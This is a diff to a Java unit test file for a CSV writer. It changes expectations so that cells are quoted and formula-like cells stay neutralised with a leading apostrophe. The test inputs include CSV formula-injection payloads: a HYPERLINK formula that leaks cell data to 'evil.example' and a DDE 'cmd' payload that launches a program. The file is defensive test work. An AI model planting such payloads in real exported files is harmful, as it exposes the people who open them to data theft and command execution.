@@ -21,7 +21,7 @@ class CsvFileTests {
 	@Test
 	void isAsTheStandardHasIt() {
 		CsvFile file = CsvFile.of("Network", "Answers").row("North", 12).row("South, \"old\"", 7);
-		assertThat(text(file)).isEqualTo("\ufeffNetwork,Answers\r\nNorth,12\r\n\"South, \"\"old\"\"\",7\r\n");
+		assertThat(text(file)).isEqualTo("\ufeff\"Network\",\"Answers\"\r\n\"North\",12\r\n\"South, \"\"old\"\"\",7\r\n");
 		assertThat(file.bytes()).startsWith(0xef, 0xbb, 0xbf);
 	}
 
@@ -30,7 +30,7 @@ class CsvFileTests {
 			"=HYPERLINK(\"https://evil.example/?\"&A1,\"here\")", "-2+3+cmd|' /C calc'!A0" })
 	void makesTextOfFormulas(String cell) throws IOException {
 		assertThat(read(CsvFile.of("a").row(cell))).containsExactly("'" + cell);
-		assertThat(text(CsvFile.of(cell)).substring(1)).matches("(?s)\"?'.*");
+		assertThat(text(CsvFile.of(cell)).substring(1)).startsWith("\"'");
 	}
 
 	@ParameterizedTest
@@ -48,7 +48,7 @@ class CsvFileTests {
 
 	@Test
 	void leavesCellsEmpty() {
-		assertThat(text(CsvFile.of("a", "b", "c").row("x", null, ""))).endsWith("x,,\r\n");
+		assertThat(text(CsvFile.of("a", "b", "c").row("x", null, ""))).endsWith("\"x\",,\"\"\r\n");
 	}
 
 	@ParameterizedTest
